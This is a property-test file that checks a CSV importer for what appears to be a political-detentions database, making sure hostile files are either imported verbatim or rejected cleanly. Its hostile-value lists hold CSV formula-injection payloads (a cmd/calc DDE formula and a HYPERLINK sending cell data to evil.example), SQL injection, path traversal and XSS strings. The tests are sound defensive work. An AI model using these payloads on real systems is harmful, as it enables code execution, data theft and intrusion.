/**
 * The CSV importer against hostile files (property tests with fast-check). Whatever the file — any
 * text in any cell, quotes and line breaks inside values, huge fields, unknown columns, wrong dates,
 * spreadsheet formulas, bytes that are not UTF-8 — the import either succeeds cleanly or is rejected
 * with an error that names where the problem is, and a rejected file leaves every table as it was.
 * Where the generator itself plants the one fault in a file, the error must name that exact line and
 * column, counted on the file as written (a quoted value may span lines).
 */
import { it } from 'node:test';
import assert from 'node:assert/strict';
import { isUtf8 } from 'node:buffer';
import fc from 'fast-check';
import { describeBothBackends } from '../../test-support/stores.js';
import { tempFile } from '../../test-support/files.js';
import { tableCounts, writeMarks } from '../../test-support/store-state.js';
import { isVigilError, type VigilError } from '../../errors.js';
import type { Store } from '../../store/connection.js';
import { EVENT_COLUMNS, PERSON_COLUMNS } from '../../domain/csv-contract.js';
import { GENDERS, REGIMES, RELEASE_REASONS } from '../../domain/event-types.js';
import { importEvents } from './events.import.js';
import { importPersons } from './persons.import.js';
import type { ImportReport } from './import.service.js';

const actor = 'test:property';
const RUNS = 60;

/** Spreadsheet formulas, markup, SQL and paths: stored as text, never interpreted. */
const HOSTILE = [
  "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(1+1)',
  "'; DROP TABLE person; --", '" OR 1=1 --', '../../etc/passwd', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>',
  'a,b,"c"', 'line one\nline two', 'line one\r\nline two', '""', '"', 'Калеснікава, "Маша"', '\u202Eevil\u202C', '\uFEFFbom',
];

/** Any text but U+0000 (which no text column can hold); sometimes one of the hostile values. */
const text = (maxLength: number) =>
  fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength }).map((s) => s.replaceAll('\u0000', '')) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE) },
  );

/** RFC 4180 as a careful writer does it: quote a value holding a comma, quote or line break. */
const field = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
const line = (values: readonly string[]) => values.map(field).join(',');

type Row = Record<(typeof EVENT_COLUMNS)[number], string>;

const PEOPLE = ['p1', 'p2', 'p3', 'p4', 'p5'];

const date = fc.oneof(
  fc.integer({ min: 1990, max: 2024 }).map(String),
  fc.tuple(fc.integer({ min: 1990, max: 2024 }), fc.integer({ min: 1, max: 12 })).map(([y, m]) => `${y}-${String(m).padStart(2, '0')}`),
  fc.tuple(fc.integer({ min: 1990, max: 2024 }), fc.integer({ min: 1, max: 12 }), fc.integer({ min: 1, max: 28 })).map(([y, m, d]) => `${y}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}`),
);

/** The fields each event type may carry, filled with valid values (free text anywhere text is allowed). */
const typed: fc.Arbitrary<Partial<Row>> = fc.oneof(
  fc.record({ type: fc.constant('detained'), facility: text(60) }),
  fc.record({ type: fc.constant('charged'), articles: fc.constantFrom('342', '342;361-1', '130.3; 361-1') }),
  fc.record({ type: fc.constant('sentenced'), term_months: fc.integer({ min: 0, max: 1200 }).map(String), regime: fc.constantFrom(...REGIMES) }),
  fc.record({ type: fc.constant('transferred'), facility: text(60) }),
  fc.record({ type: fc.constant('released'), reason: fc.constantFrom(...RELEASE_REASONS) }),
  fc.record({ type: fc.constant('expelled'), country: fc.constantFrom('LT', 'UA', 'PL') }),
  fc.record({ type: fc.constantFrom('recognized', 'recognition_withdrawn'), organization: text(150) }),
  fc.record({ type: fc.constant('died') }),
);

const validRow: fc.Arbitrary<Row> = fc
  .record({
    person: fc.constantFrom(...PEOPLE),
    date,
    fields: typed,
    note: fc.oneof(text(300), fc.constant(`${'n'.repeat(4990)}=cmd|x`)),
    source_url: fc.oneof(fc.constant(''), fc.constantFrom('https://example.org/a?b=1&c="2"', 'http://example.org/<script>', 'https://example.org/../../etc/passwd')),
  })
  .map(({ person, date: day, fields, note, source_url }) => {
    const row = Object.fromEntries(EVENT_COLUMNS.map((column) => [column, ''])) as Row;
    return { ...row, ...fields, person_external_id: person, date: day, note, source_url };
  });

/** One planted fault: the column it is in, and how it spoils a valid row. */
const FAULTS: { column: keyof Row; values: string[] }[] = [
  { column: 'date', values: ['2021-02-30', '2021-13', '31.12.2021', '2999-01-01', '', 'yesterday', "=cmd|' /C calc'!A0"] },
  { column: 'type', values: ['arrested', '', 'DETAINED', '<script>alert(1)</script>'] },
  { column: 'person_external_id', values: ['ghost', "'; DROP TABLE person; --", '../../etc/passwd', "=cmd|' /C calc'!A0"] },
  { column: 'term_months', values: ['=1+1', '-5', '1.5', 'twelve', '99999'] },
  { column: 'note', values: ['x'.repeat(5001), 'y'.repeat(100_000), 'before\u0000after'] },
  { column: 'source_url', values: ['javascript:alert(1)', 'ftp://example.org/x', '../../etc/passwd', 'http://'] },
  { column: 'country', values: ['XX', 'lt', 'Lithuania'] },
];

const fault = fc.record({
  at: fc.nat(),
  kind: fc.nat({ max: FAULTS.length - 1 }),
  choice: fc.nat(),
});

async function outcome(run: Promise<ImportReport>): Promise<{ report: ImportReport } | { error: VigilError }> {
  try {
    return { report: await run };
  } catch (error) {
    assert.ok(isVigilError(error), `not a clean rejection: ${(error as Error)?.stack ?? String(error)}`);
    return { error };
  }
}

type Detail = { line: number; column: string | null; message: string };

/** A rejection says the file was not imported and where the problem is; never a stack trace. */
function assertCleanRejection(error: VigilError, file: string, lines: number): Detail[] {
  assert.equal(error.id, 'import_rejected', error.message);
  assert.ok(error.message.startsWith(`${file} was not imported, nothing was changed: `), error.message);
  assert.doesNotMatch(error.message, /\n\s+at /);
  const details = error.details as Detail[];
  assert.ok(Array.isArray(details) && details.length > 0);
  for (const detail of details) {
    // Line 0 only for a file that cannot be decoded at all (where no line can be trusted).
    if (detail.line === 0) assert.match(detail.message, /not valid UTF-8/);
    else assert.ok(detail.line >= 1 && detail.line <= lines + 1, `line ${detail.line} of ${lines}`);
  }
  assert.match(error.message, /line \d+|not valid UTF-8/);
  return details;
}

async function seedPeople(store: Store): Promise<void> {
  await importPersons(store, tempFile('people.csv', `external_id,name_latin\n${PEOPLE.map((id) => `${id},Person ${id}`).join('\n')}\n`), { actor });
}

/** Lines as an editor shows them: CR LF, CR and LF each end one. */
const physicalLines = (content: string) => content.split(/\r\n|\r|\n/).length;

describeBothBackends('CSV import under hostile input', (backend) => {
  it('names the line and column of a planted fault and writes nothing; without one, stores every value as given', async () => {
    const store = await backend.fresh();
    await seedPeople(store);
    await fc.assert(
      fc.asyncProperty(fc.array(validRow, { minLength: 1, maxLength: 6 }), fc.option(fault, { nil: undefined, freq: 2 }), async (rows, planted) => {
        const spoiled = rows.map((row) => ({ ...row }));
        let expected: [number, string] | undefined;
        const header = line(EVENT_COLUMNS);
        const texts = () => spoiled.map((row) => line(EVENT_COLUMNS.map((column) => row[column])));
        if (planted) {
          const index = planted.at % rows.length;
          const { column, values } = FAULTS[planted.kind]!;
          spoiled[index]![column] = values[planted.choice % values.length]!;
          // The line a record starts on: the header's and every earlier record's line breaks, quoted ones included.
          const before = [header, ...texts().slice(0, index)].join('\n');
          expected = [physicalLines(before) + 1, column];
        }
        const content = `${[header, ...texts()].join('\n')}\n`;
        const before = await tableCounts(store);
        const result = await outcome(importEvents(store, tempFile('events.csv', content), { actor }));
        if (expected) {
          assert.ok('error' in result, `the fault ${JSON.stringify(expected)} was not noticed`);
          const details = assertCleanRejection(result.error, 'events.csv', physicalLines(content));
          // One fault, one place (it may break more than one rule there: "=1+1" on a detention is no number and does not belong).
          assert.deepEqual([...new Set(details.map((d) => `line ${d.line}, ${d.column}`))], [`line ${expected[0]}, ${expected[1]}`], result.error.message);
          assert.deepEqual(await tableCounts(store), before);
          return;
        }
        assert.ok('report' in result, `a valid file was rejected: ${'error' in result ? result.error.message : ''}`);
        assert.equal(result.report.rows, rows.length);
        assert.equal(result.report.created + result.report.unchanged, rows.length);
        assert.equal((await tableCounts(store)).event, before.event + result.report.created);
        for (const row of rows) {
          const note = row.note.trim() || null;
          const stored = await store.db.selectFrom('event').innerJoin('person', 'person.id', 'event.person_id')
            .select('event.id').where('person.external_id', '=', row.person_external_id).where('event.type', '=', row.type)
            .where('event.date', '=', row.date).where('event.note', note === null ? 'is' : '=', note).executeTakeFirst();
          assert.ok(stored, `row stored verbatim: ${JSON.stringify(row).slice(0, 300)}`);
        }
      }),
      { numRuns: RUNS },
    );
  });

  it('answers any persons file — any header, any cells, broken quoting — with a clean import or a clean rejection', async () => {
    const store = await backend.fresh();
    const known: string[] = [...PERSON_COLUMNS];
    const columns: fc.Arbitrary<string[]> = fc.oneof(
      // Mostly a usable header (an id and a name), in any order, with any other known columns.
      { weight: 4, arbitrary: fc.subarray(known).chain((some) => {
        const all = [...new Set(['external_id', 'name_latin', ...some])];
        return fc.shuffledSubarray(all, { minLength: all.length });
      }) },
      { weight: 1, arbitrary: fc.subarray(known, { minLength: 1 }) },
      { weight: 1, arbitrary: fc.tuple(fc.subarray(known), fc.constantFrom('nickname', 'Phone', '=cmd', '', ' external_id ')).map(([some, extra]) => [...some, extra]) },
    );
    /** Mostly what the column expects, sometimes anything at all. */
    const expected: Record<string, fc.Arbitrary<string>> = {
      birth_date: date, gender: fc.constantFrom(...GENDERS), publish: fc.constantFrom('yes', 'no', 'YES', ''), tags: fc.constantFrom('a;b', 'Viasna; 2020', ''),
    };
    const cell = (column: string) => fc.oneof(
      { weight: 4, arbitrary: expected[column] ?? text(40) },
      { weight: 1, arbitrary: text(40) },
      { weight: 1, arbitrary: fc.constantFrom('1990-13', '2021-02-30', '2999', 'female ', 'x'.repeat(250), 'z'.repeat(600), "=cmd|' /C calc'!A0") },
    );
    const file = columns.chain((header) =>
      fc.record({
        header: fc.constant(header),
        rows: fc.array(fc.tuple(...header.map(cell)), { maxLength: 5 }),
        // Sometimes written carelessly: no quoting at all, or a different number of values.
        careless: fc.constantFrom(false, false, false, true),
        ragged: fc.constantFrom(false, false, false, true),
      }),
    );
    let id = 0;
    await fc.assert(
      fc.asyncProperty(file, async ({ header, rows, careless, ragged }) => {
        const write = careless ? (values: string[]) => values.join(',') : line;
        const body = rows.map((row, i) => {
          const values = header.map((column, c) => (column === 'external_id' && i % 2 === 0 ? `prop-${++id}` : row[c]!));
          return write(ragged && i === 0 ? [...values, 'extra'] : values);
        });
        const content = `${[write(header), ...body].join('\n')}\n`;
        const before = { counts: await tableCounts(store), marks: await writeMarks(store) };
        const result = await outcome(importPersons(store, tempFile('people.csv', content), { actor }));
        if ('error' in result) {
          assertCleanRejection(result.error, 'people.csv', physicalLines(content));
          assert.deepEqual({ counts: await tableCounts(store), marks: await writeMarks(store) }, before, 'a rejected file changes nothing');
          return;
        }
        // A carelessly written line break splits a record in two, so only a careful file has a known row count.
        if (!careless) assert.equal(result.report.rows, rows.length);
        assert.equal((await tableCounts(store)).person, before.counts.person + result.report.created);
      }),
      { numRuns: RUNS },
    );
  });

  it('rejects a file that is not UTF-8 and takes any valid one, whatever its bytes', async () => {
    const store = await backend.fresh();
    await seedPeople(store);
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 200 }),
      // Valid text with a few stray bytes (a Windows-1251 word, a lone continuation byte, a cut sequence).
      fc.tuple(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom([0xc8, 0xe2, 0xe0, 0xed], [0x80], [0xe2, 0x82], [0xff, 0xfe], [0xed, 0xa0, 0x80]), fc.nat())
        .map(([s, stray, at]) => {
          const encoded = Buffer.from(s, 'utf8');
          const cut = at % (encoded.length + 1);
          return new Uint8Array(Buffer.concat([encoded.subarray(0, cut), Buffer.from(stray), encoded.subarray(cut)]));
        }),
    );
    await fc.assert(
      fc.asyncProperty(bytes, async (tail) => {
        const content = Buffer.concat([Buffer.from('person_external_id,type,date,note\np1,detained,2021-01-01,'), Buffer.from(tail), Buffer.from('\n')]);
        const before = await tableCounts(store);
        const result = await outcome(importEvents(store, tempFile('bytes.csv', content), { actor }));
        if (!isUtf8(content)) {
          assert.ok('error' in result, 'a file that is not UTF-8 was imported');
          assert.match(result.error.message, /not valid UTF-8/);
        }
        if ('error' in result) {
          assertCleanRejection(result.error, 'bytes.csv', physicalLines(content.toString('utf8')));
          assert.deepEqual(await tableCounts(store), before);
        }
      }),
      { numRuns: RUNS },
    );
  });
});
